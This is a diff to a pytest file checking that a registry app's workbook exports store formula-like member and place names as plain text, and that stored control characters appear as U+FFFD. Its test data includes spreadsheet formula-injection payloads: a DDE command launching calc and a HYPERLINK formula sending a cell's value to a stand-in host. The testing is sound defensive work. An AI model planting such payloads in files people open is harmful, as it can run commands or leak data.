@@ -8,6 +8,7 @@ import asyncio
 import io
 import sys
 import time
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -15,7 +16,7 @@ from openpyxl import load_workbook
 from openpyxl.workbook import Workbook
 from sqlalchemy import update
 
-from registry.core.models import Place
+from registry.core.models import Member
 from registry.reports.workbooks import Table
 from registry.web import downloads
 from tests.support import Registry
@@ -25,27 +26,42 @@ RENAME = """
 mutation($place: String!, $name: String!) {
   updatePlace(input: {place: $place, name: $name}) { userErrors { code } }
 }"""
+ENROL = """
+mutation($name: String!) {
+  createMember(input: {code: "A-M9", name: $name, status: PROBATIONARY, joined: "2015-07-01",
+                       organisation: "A-ZB"}) { userErrors { code } }
+}"""
 
 # Names an organiser may type or a workbook may bring; none may run as a formula.
 ATTACKS = {
-    "A-E-B2": "=cmd|' /C calc'!A0",  # set through the API
-    "B-E-B2": '=HYPERLINK("http://x/?"&A1,"x")',  # brought by an import
+    "A-E-B2": "=cmd|' /C calc'!A0",  # a place renamed through the API
+    "B-E-B2": '=HYPERLINK("http://x/?"&A1,"x")',  # a place brought by an import
+    "A-M9": "=1+1",  # a member enrolled through the API
 }
+# A name stored before control characters were refused, holding characters no workbook may
+# hold, and how every export shows it.
+STORED = "B\x01党员\uffff3"
+SHOWN = "B\ufffd党员\ufffd3"
 
 
 async def world_with_formulas(registry: Registry) -> None:
-    """Two communities whose uncovered buildings (gaps in every coverage report) carry names
-    that look like formulas, and one stored before control characters were refused."""
+    """Two communities whose uncovered buildings (gaps in every coverage report) and
+    overdue probationary members (violations) carry names that look like formulas, and one
+    member's name stored before control characters were refused."""
     rows = two_communities()
     for place in rows["places"]:
         if place["code"] == "B-E-B2":
             place["name"] = ATTACKS["B-E-B2"]
     await registry.load(rows)
     api = await registry.client()
-    answer = await api(RENAME, {"place": "A-E-B2", "name": ATTACKS["A-E-B2"]})
-    assert answer["updatePlace"]["userErrors"] == []
+    renamed = await api(RENAME, {"place": "A-E-B2", "name": ATTACKS["A-E-B2"]})
+    assert renamed["updatePlace"]["userErrors"] == []
+    enrolled = await api(ENROL, {"name": ATTACKS["A-M9"]})
+    assert enrolled["createMember"]["userErrors"] == []
     async with registry.db.write() as session:
-        await session.execute(update(Place).where(Place.code == "A-E").values(name="A\x01小区"))
+        await session.execute(
+            update(Member).where(Member.code == "B-M3").values(name=STORED, joined=date(2015, 7, 1))
+        )
 
 
 async def viewer(registry: Registry) -> dict[str, str]:
@@ -66,8 +82,10 @@ def text_cells(book: Workbook) -> dict[str, str]:
 
 
 def assert_no_formula(book: Workbook) -> None:
+    """Every name that looks like a formula is a text cell holding it as typed, and the
+    stored name with control characters is there with those characters shown as U+FFFD."""
     cells = text_cells(book)
-    for name in ATTACKS.values():
+    for name in [*ATTACKS.values(), SHOWN]:
         assert cells.get(name) == "s", f"{name!r} is not a text cell: {cells.get(name)}"
     assert all(kind == "s" for kind in cells.values())
 
@@ -99,7 +117,7 @@ async def test_names_that_look_like_formulas_are_text_in_the_console_downloads(
     table = await registry.http.post(
         "/console/export/table.xlsx",
         json={"tables": [{"title": "=1+1", "columns": ["@SUM(A1)", "+1"],
-                          "rows": [["=1+1", "-1", 3, None, "\tx"]]}]},
+                          "rows": [["=1+1", "-1", 3, None, "\t=1", "a\uffff"]]}]},
         headers=headers,
     )  # fmt: skip
 
@@ -107,7 +125,9 @@ async def test_names_that_look_like_formulas_are_text_in_the_console_downloads(
     assert_no_formula(load_workbook(io.BytesIO(coverage.content)))
     assert table.status_code == 200, table.text
     sheet = load_workbook(io.BytesIO(table.content)).worksheets[0]
-    assert [(c.value, c.data_type) for c in sheet[2]][:2] == [("=1+1", "s"), ("-1", "s")]
+    assert [(c.value, c.data_type) for c in sheet[2]] == [
+        ("=1+1", "s"), ("-1", "s"), (3, "n"), (None, "n"), ("\t=1", "s"), ("a\ufffd", "s")
+    ]  # fmt: skip
     assert [(c.value, c.data_type) for c in sheet[1] if c.value] == [("@SUM(A1)", "s"), ("+1", "s")]
 
 
